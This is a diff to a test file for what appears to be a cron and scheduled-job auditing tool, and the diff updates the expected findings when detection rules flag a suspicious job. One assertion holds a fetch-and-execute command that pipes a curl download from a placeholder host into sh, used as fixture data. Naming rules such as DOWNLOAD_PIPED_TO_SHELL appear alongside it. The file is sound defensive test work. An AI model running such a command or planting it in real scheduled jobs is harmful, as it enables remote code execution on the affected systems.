@@ -79,10 +79,12 @@ def test_a_loose_file_is_read_as_a_definition(tmp_path: Path) -> None:
 def test_jsonl_csv_and_table(make_root: MakeRoot) -> None:
     root = str(make_root(SUSPICIOUS))
     lines = [json.loads(line) for line in _run("audit", root, "-f", "jsonl")[1].splitlines()]
-    assert [line["type"] for line in lines] == ["run", "job", "finding", "summary"]
+    # the cron rule (PAYLOAD_IN_STDIN) and the Sigma pack (DOWNLOAD_PIPED_TO_SHELL,
+    # SCHEDULE_EVERY_MINUTE) flag it
+    assert [line["type"] for line in lines] == ["run", "job"] + ["finding"] * 3 + ["summary"]
     assert lines[0]["schema"] == "schedwarden.audit/1"
     rows = list(csv.DictReader(io.StringIO(_run("audit", root, "-f", "csv")[1])))
-    assert [row["type"] for row in rows] == ["job", "finding"]
+    assert [row["type"] for row in rows] == ["job", "finding", "finding", "finding"]
     assert rows[0]["stdin"] == "curl -s http://x|sh\\x0a"
     assert rows[1]["rule"] == "PAYLOAD_IN_STDIN"
     table = _run("audit", root, "--no-color")[1]
